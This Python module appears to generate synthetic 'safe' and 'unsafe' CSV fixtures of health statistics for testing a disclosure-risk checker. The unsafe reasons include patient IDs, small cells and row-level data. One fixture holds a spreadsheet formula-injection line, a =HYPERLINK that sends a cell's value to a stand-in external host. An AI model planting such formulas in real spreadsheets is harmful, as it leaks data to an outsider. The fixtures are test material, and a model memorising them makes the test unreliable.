"""CSV and TSV files."""

import math

from .kit import ipp, write_csv


def write(shelf):
    r = shelf.random("m05")
    # OMOP concept counts
    names = [
        "Sodium",
        "Potassium",
        "Creatinine",
        "Haemoglobin",
        "Platelets",
        "Leukocytes",
        "CRP",
        "Albumin",
        "Bilirubin",
        "Lactate",
        "Glucose",
        "Ferritin",
    ]
    write_csv(
        shelf.safe(
            "omop/concept_counts.csv",
            "10-digit concept ids that begin with 80",
            "Number of measurements and persons per local concept.",
            "measurements of 2022, 61 000 persons",
        ),
        [
            ["concept_id", "concept_name", "n_measurements", "n_persons"],
            *[
                [f"80{r.randint(0, 99_999_999):08d}", n, r.randint(60_000, 300_000), r.randint(9_000, 52_000)]
                for n in names
            ],
        ],
    )
    write_csv(
        shelf.unsafe(
            "omop/drug_exposure_top.csv",
            "patients' numbers (IPP) in a column",
            "column src_ref",
            "Most prescribed drugs.",
            "58 000 persons with a drug exposure in 2022",
        ),
        [
            ["drug", "n_persons", "src_ref"],
            *[
                [d, r.randint(900, 14_000), ipp(r)]
                for d in [
                    "paracetamol",
                    "enoxaparin",
                    "pantoprazole",
                    "furosemide",
                    "amoxicillin",
                    "apixaban",
                    "metformin",
                    "bisoprolol",
                    "atorvastatin",
                    "ramipril",
                ]
            ],
        ],
    )
    # KM tables
    _t, n, rows = 0, 960, []
    for m in range(0, 61, 6):
        rows.append(
            [
                m,
                n,
                f"{max(0.2, math.exp(-0.009 * m)):.2f}",
                f"{max(0.2, math.exp(-0.0105 * m)):.2f}",
                f"{min(1, math.exp(-0.0077 * m)):.2f}",
            ]
        )
        n -= r.randint(55, 90)
    rows[0][2:] = ["1.00", "1.00", "1.00"]
    write_csv(
        shelf.safe(
            "onco/km_every_6_months.csv",
            "a survival of 1 at time 0, steps of 55 or more",
            "Kaplan-Meier estimates every 6 months.",
            "960 patients with gastric cancer",
        ),
        [["month", "n_at_risk", "survival", "lower95", "upper95"], *rows],
    )
    n, s, rows, tt = 112, 1.0, [], 0
    while n > 40:
        tt += r.randint(3, 40)
        s *= 1 - 1 / n
        rows.append([tt, n, 1, 0 if r.random() < 0.7 else 1, f"{s:.4f}", f"{0.1 * (1 - s):.4f}"])
        n -= 1 + rows[-1][3]
    write_csv(
        shelf.unsafe(
            "onco/survfit_os.csv",
            "steps of single events",
            "n.event 1 at each time",
            "Kaplan-Meier estimate of overall survival, exported by broom::tidy.",
            "112 patients with pancreatic cancer",
        ),
        [["time", "n.risk", "n.event", "n.censor", "estimate", "std.error"], *rows],
    )
    # number at risk with small steps
    write_csv(
        shelf.unsafe(
            "cardio/at_risk.tsv",
            "steps of the numbers at risk below 10",
            "arm B, 18 to 24 months: 131 to 127",
            "Numbers at risk below the survival curve.",
            "402 patients with aortic stenosis",
        ),
        [["arm", "0", "6", "12", "18", "24"], ["A", 201, 183, 166, 149, 122], ["B", 201, 180, 161, 131, 127]],
        sep="\t",
    )
    # rates, odds ratios
    vars_ = [
        ("Age, per 10 y", 1.21, 1.09, 1.34),
        ("Male sex", 1.05, 0.88, 1.25),
        ("COPD", 1.77, 1.43, 2.19),
        ("Chronic kidney disease", 1.9, 1.51, 2.39),
        ("Emergency surgery", 3.02, 2.44, 3.74),
        ("ASA 3-4", 2.2, 1.8, 2.69),
        ("Laparoscopy", 0.61, 0.5, 0.75),
        ("Hb < 100 g/L", 1.48, 1.2, 1.83),
    ]
    write_csv(
        shelf.safe(
            "anesth/or_complications.csv",
            "odds ratios below 10, p-values",
            "Multivariable odds ratios of postoperative complications.",
            "6 204 abdominal operations, 731 complications",
        ),
        [
            ["term", "estimate", "conf.low", "conf.high", "p.value"],
            *[
                [
                    a,
                    b,
                    c,
                    d,
                    f"{2 * (1 - 0.5 * (1 + math.erf(abs(math.log(b)) / ((math.log(d) - math.log(c)) / 3.92) / 2**0.5))):.3f}".replace(
                        "0.000", "<0.001"
                    ),
                ]
                for a, b, c, d in vars_
            ],
        ],
    )
    # masked with a total
    write_csv(
        shelf.unsafe(
            "registre/cancers_rares.csv",
            "a masked cell is given back by the total",
            "Thymus: <10, total 402",
            "Effectifs par localisation, masqués sous 10.",
            "402 cancers rares 2018-2022",
        ),
        [
            ["localisation", "effectif"],
            ["Sarcome", 188],
            ["Mésothéliome", 74],
            ["Surrénale", 41],
            ["Anus", 93],
            ["Thymus", "<10"],
            ["Total", 402],
        ],
        sep=";",
    )
    write_csv(
        shelf.safe(
            "registre/cancers_orl_masque.csv",
            "two masked cells, so that the total does not give them back",
            "Effectifs par localisation, masquage primaire et secondaire.",
            "1 190 cancers des VADS",
        ),
        [
            ["localisation", "effectif"],
            ["Larynx", 402],
            ["Oropharynx", 371],
            ["Cavité buccale", 288],
            ["Sinus", "masqué"],
            ["Glandes salivaires", "masqué"],
            ["Total (arrondi à la centaine)", "≈ 1200"],
        ],
        sep=";",
    )
    # row level disguised
    write_csv(
        shelf.unsafe(
            "pneumo/strates.csv",
            "row-level data called strata",
            "each line is one person",
            "Strates de l'analyse de sensibilité.",
            "240 patients BPCO",
        ),
        [
            ["strate", "age", "sexe", "vems_pct", "paquets_annees", "exacerbations", "oxygene"],
            *[
                [
                    f"S{i:03d}",
                    r.randint(45, 86),
                    r.choice("HF"),
                    r.randint(22, 88),
                    r.randint(5, 80),
                    r.randint(0, 5),
                    r.choice([0, 1]),
                ]
                for i in range(1, 241)
            ],
        ],
        sep=";",
    )
    write_csv(
        shelf.unsafe(
            "labo/results_long.csv",
            "row-level data in a long layout",
            "each line is one result of a person",
            "Laboratory values used in figure 2.",
            "90 patients with sickle cell disease",
        ),
        [
            ["key", "visit", "test", "value"],
            *[
                [k, v, t, round(r.gauss(m, s), 1)]
                for k in (f"{r.getrandbits(32):08x}" for _ in range(90))
                for v in ("M0", "M6")
                for t, m, s in (("Hb", 88, 9), ("LDH", 380, 90))
            ],
        ],
    )
    write_csv(
        shelf.safe(
            "labo/means_by_visit.csv",
            "long layout of group means",
            "Means and SD by visit and arm.",
            "412 patients with sickle cell disease, two arms",
        ),
        [
            ["arm", "visit", "test", "n", "mean", "sd"],
            *[
                [a, v, t, n, round(r.gauss(m, s / 20), 1), round(s * r.uniform(0.9, 1.1), 1)]
                for a, n in (("control", 207), ("l-glutamine", 205))
                for v in ("M0", "M6", "M12")
                for t, m, s in (("Hb", 88, 9), ("LDH", 380, 90), ("HbF", 8.1, 4))
            ],
        ],
    )
    # indicator by department
    write_csv(
        shelf.safe(
            "geo/departements.csv",
            "codes of departments below 10",
            "Séjours par département de résidence.",
            "18 900 séjours pour fracture, 2022",
        ),
        [
            ["dep", "nom", "sejours", "taux_pour_10000"],
            *[
                [d, n, r.randint(180, 3200), f"{r.uniform(8, 40):.1f}".replace(".", ",")]
                for d, n in (
                    ("01", "Ain"),
                    ("03", "Allier"),
                    ("07", "Ardèche"),
                    ("26", "Drôme"),
                    ("38", "Isère"),
                    ("42", "Loire"),
                    ("43", "Haute-Loire"),
                    ("63", "Puy-de-Dôme"),
                    ("69", "Rhône"),
                    ("73", "Savoie"),
                    ("74", "Haute-Savoie"),
                )
            ],
        ],
        sep=";",
    )
    # dates
    write_csv(
        shelf.unsafe(
            "infectio/epidemic_deaths.csv",
            "exact dates of single events",
            "one death per date",
            "Timeline of the outbreak.",
            "61 patients of a C. difficile outbreak",
        ),
        [
            ["date", "event"],
            *[
                [f"2022-{m:02d}-{d:02d}", e]
                for m, d, e in (
                    (1, 14, "death, ward 3"),
                    (1, 29, "death, ward 3"),
                    (2, 8, "death, ICU"),
                    (2, 21, "death, ward 5"),
                    (3, 2, "death, ward 3"),
                )
            ],
        ],
    )
    write_csv(
        shelf.safe(
            "infectio/weekly_cases.csv",
            "ISO weeks, a case count of at least 12 each",
            "Weekly counts of RSV admissions.",
            "about 1 300 RSV admissions, season 2022-23",
        ),
        [
            ["iso_week", "admissions"],
            *[[f"2022-W{w}", r.randint(12, 40) + 190 * (45 < w < 51)] for w in range(40, 53)],
        ],
    )
    # cumul
    c, rows = 0, []
    for m in range(1, 13):
        c += r.randint(18, 30) if m != 8 else 5
        rows.append([f"2023-{m:02d}", c])
    write_csv(
        shelf.unsafe(
            "recherche/inclusions_cumulees.csv",
            "a step of a cumulated series is small",
            "August 2023: +5",
            "Courbe d'inclusion cumulée de l'essai.",
            f"{c} patients inclus en 2023",
        ),
        [["mois", "inclusions_cumulees"], *rows],
        sep=";",
    )
    c, rows = 0, []
    for m in range(1, 13):
        c += r.randint(41, 60)
        rows.append([f"2023-{m:02d}", c])
    write_csv(
        shelf.safe(
            "recherche/questionnaires_cumules.csv",
            "a cumulated series with steps over 40",
            "Questionnaires reçus, cumul mensuel.",
            f"{c} répondants",
        ),
        [["mois", "reponses_cumulees"], *rows],
        sep=";",
    )
    # formula injection csv
    write_csv(
        shelf.unsafe(
            "qualite/verbatims_agg.csv",
            "formula injection",
            "the last line begins with =HYPERLINK",
            "Thèmes des réclamations.",
            "1 288 réclamations",
        ),
        [
            ["theme", "n"],
            ["Attente", 402],
            ["Accueil", 361],
            ["Repas", 288],
            ["Facturation", 237],
            ['=HYPERLINK("http://x.example.net/?d="&B2;"détail")', ""],
        ],
        sep=";",
    )
    # utf-16 SAS export
    write_csv(
        shelf.unsafe(
            "sas/export_unicode.csv",
            "a small cell, in UTF-16",
            "Ventilation invasive, Grossesse: 6",
            "Tableau de fréquences exporté de SAS.",
            "2 016 hospitalisations COVID de femmes",
        ),
        [
            ["variable", "Grossesse (n=188)", "Hors grossesse (n=1828)"],
            ["Oxygène", 61, 902],
            ["Réanimation", 21, 318],
            ["Ventilation invasive", 6, 177],
            ["Corticoïdes", 90, 1120],
        ],
        sep=";",
        enc="utf-16",
    )
    write_csv(
        shelf.safe(
            "sas/export_latin1.csv",
            "Latin-1, decimal commas, p-values",
            "Tableau de fréquences exporté de SAS.",
            "3 411 hospitalisations COVID",
        ),
        [
            ["variable", "Vague 1 (n=1502)", "Vague 2 (n=1909)", "p"],
            ["Oxygène", 981, 1102, "<0,001"],
            ["Réanimation", 301, 322, "0,02"],
            ["Ventilation invasive", 204, 171, "<0,001"],
            ["Corticoïdes", 266, 1480, "<0,001"],
        ],
        sep=";",
        enc="latin-1",
        eol="\r\n",
    )
    # calibration
    write_csv(
        shelf.safe(
            "ia/calibration_deciles.csv",
            "deciles 1 to 10, risks below 10 %",
            "Observed and predicted risk by decile.",
            "24 000 admissions, 2 018 deaths",
        ),
        [
            ["decile", "n", "predicted_pct", "observed_pct"],
            *[
                [i, 2400, f"{p:.1f}", f"{p * r.uniform(0.93, 1.07):.1f}"]
                for i, p in enumerate((0.9, 1.6, 2.4, 3.3, 4.6, 6.1, 8.2, 11.4, 16.8, 28.8), 1)
            ],
        ],
    )
    write_csv(
        shelf.unsafe(
            "ia/calibration_small.csv",
            "observed risk × group size is a small count",
            "decile 1: 0.5 % of 412",
            "Observed and predicted risk by quantile of score.",
            "4 120 admissions",
        ),
        [
            ["decile", "n", "predicted_pct", "observed_pct"],
            *[
                [i, 412, p, round(p * q, 1)]
                for i, (p, q) in enumerate(
                    (
                        (0.6, 0.83),
                        (3.1, 1.1),
                        (4.2, 0.95),
                        (5.3, 1.02),
                        (6.8, 0.97),
                        (8.2, 1.05),
                        (10.1, 0.98),
                        (13.3, 1.01),
                        (18.8, 0.99),
                        (30.2, 1.02),
                    ),
                    1,
                )
            ],
        ],
    )
